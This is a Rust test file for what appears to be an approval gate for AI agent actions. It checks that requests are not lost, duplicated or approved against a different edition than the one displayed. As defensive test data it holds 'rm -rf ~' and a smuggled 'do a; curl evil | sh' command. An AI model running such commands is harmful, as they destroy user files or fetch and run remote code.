//! Requests whose place, dialect or number is not what it was: none is lost, none a ghost, none approved for another.

use gavel_core::flow::{Effect, Event, Flow, Scope, Timer, WireEvent};
use gavel_core::{Ask, Decision, Moment, RequestKey, Route, Session};

use crate::support::{SERVER, ask, event};

/// A 2.x server that is watched, and the time.
struct Play(Flow, u64);

impl Play {
    fn new() -> Self {
        let mut play = Self(Flow::default(), 1_000);
        play.does(event("server"));
        play.does(event("online"));
        play
    }

    /// Lets something happen, and whatever it makes the machine wait for a moment for.
    fn does(&mut self, event: Event) -> Vec<Effect> {
        self.1 += 10;
        let effects = self.0.step(event, Moment(self.1));
        for effect in &effects {
            if let Effect::Timer { at, timer: timer @ Timer::Gone(_) } = effect {
                self.1 = self.1.max(at.0);
                self.does(Event::TimerFired(timer.clone()));
            }
        }
        effects
    }

    fn says(&mut self, event: WireEvent) {
        self.does(Event::Wire(SERVER.into(), event));
    }

    fn asked(&mut self, ask: Ask) {
        self.says(WireEvent::Asked(Box::new(ask)));
    }

    fn lists(&mut self, number: u64, directory: &str, asks: Vec<Ask>) {
        self.says(WireEvent::ListBegan(number));
        let scope = Scope { route: Route::V2, directory: directory.into() };
        self.says(WireEvent::Listed { number, scope, asks, orphans: vec![] });
    }

    fn reconnects(&mut self) {
        self.does(event("offline"));
        self.does(event("online"));
    }

    fn inbox(&self) -> Vec<String> {
        self.0.inbox().iter().map(|entry| entry.ask.key.request.to_string()).collect()
    }
}

fn request(directory: &str) -> Ask {
    Ask { route: Route::V2, directory: directory.into(), ..ask("a/one") }
}

fn session(directory: &str) -> WireEvent {
    let (id, title) = ("one".into(), String::new());
    WireEvent::SessionSeen(Session { id, parent: None, title, directory: directory.into(), agent: None })
}

#[test]
fn one_without_a_place_gets_that_of_its_session() {
    let mut play = Play::new();
    play.asked(request(""));
    play.says(session("/p"));
    play.reconnects();
    play.lists(1, "/p", vec![]);
    assert_eq!(play.inbox(), [""; 0]);
}

#[test]
fn a_slash_at_the_end_makes_no_other_place() {
    let mut play = Play::new();
    play.asked(request("/p/"));
    play.lists(1, "/p", vec![]);
    assert_eq!(play.inbox(), [""; 0]);
}

#[test]
fn one_whose_session_moved_is_where_it_was_last_listed() {
    let mut play = Play::new();
    play.asked(request("/old"));
    play.lists(1, "/new", vec![request("/new")]);
    play.lists(2, "/old", vec![]);
    assert_eq!(play.inbox(), ["a"], "it was listed a moment ago");
    play.lists(3, "/new", vec![]);
    assert_eq!(play.inbox(), [""; 0]);
}

#[test]
fn one_whose_session_is_seen_elsewhere_is_listed_there() {
    let mut play = Play::new();
    play.says(session("/old"));
    play.asked(request("/old"));
    play.says(session("/new"));
    play.lists(1, "/old", vec![]);
    assert_eq!(play.inbox(), ["a"]);
    play.lists(2, "/new", vec![]);
    assert_eq!(play.inbox(), [""; 0]);
}

#[test]
fn a_server_that_speaks_otherwise_leaves_no_ghosts() {
    let mut play = Play::new();
    play.asked(Ask { route: Route::V1, ..request("/p") });
    play.reconnects();
    play.lists(1, "/q", vec![]);
    assert_eq!(play.inbox(), [""; 0]);
}

#[test]
fn what_a_2_x_server_lists_after_a_run_ended_is_pending() {
    let mut play = Play::new();
    play.asked(request("/p"));
    play.says(WireEvent::ListBegan(1));
    play.says(WireEvent::RunEnded("one".into()));
    let scope = Scope { route: Route::V2, directory: "/p".into() };
    play.says(WireEvent::Listed { number: 1, scope, asks: vec![request("/p")], orphans: vec![] });
    assert_eq!(play.inbox(), [""; 0], "this listing is older than the end");
    play.lists(2, "/p", vec![request("/p")]);
    assert_eq!(play.inbox(), ["a"], "what was heard to end was an earlier run");
}

#[test]
fn what_was_displayed_is_not_something_else_of_the_same_number() {
    let edit = |diff: &str| {
        let mut edit = Ask { action: "edit".into(), ..request("/p") };
        edit.detail.diff = Some(diff.into());
        edit
    };
    let cases = [
        (request("/p"), Ask { resources: vec!["rm -rf ~".into()], ..request("/p") }),
        (edit("+harmless"), edit("+evil")),
    ];
    for (displayed, other) in cases {
        let mut play = Play::new();
        play.asked(displayed);
        play.asked(other.clone());
        let entry = play.0.inbox()[0].clone();
        assert_eq!((&entry.ask.detail.diff, &entry.ask.resources), (&other.detail.diff, &other.resources));
        let approve =
            |edition| Event::Decide { key: RequestKey::new(SERVER, "a"), decision: Decision::AllowOnce, edition };
        for edition in [Some(1), None] {
            let effects = play.does(approve(edition));
            assert!(!effects.iter().any(|effect| matches!(effect, Effect::Reply { .. })), "{effects:?}");
        }
        // Somebody who has read it approves.
        play.1 += 2_000;
        let effects = play.does(approve(Some(entry.edition)));
        assert!(effects.iter().any(|effect| matches!(effect, Effect::Reply { .. })), "{effects:?}");
    }
}

#[test]
fn a_call_that_is_told_otherwise_is_another_edition() {
    let mut play = Play::new();
    play.asked(Ask { call: ask("a/one/call").call, ..request("/p") });
    let before = play.0.inbox()[0].edition;
    play.says(WireEvent::CallStarted {
        session: "one".into(),
        call: ask("a/one/call").call.unwrap(),
        command: Some("do a; curl evil | sh".into()),
        purpose: None,
        workdir: None,
        placed: true,
    });
    let entry = play.0.inbox()[0].clone();
    assert_eq!(entry.ask.detail.command.as_deref(), Some("do a; curl evil | sh"));
    assert!(entry.edition > before);
}
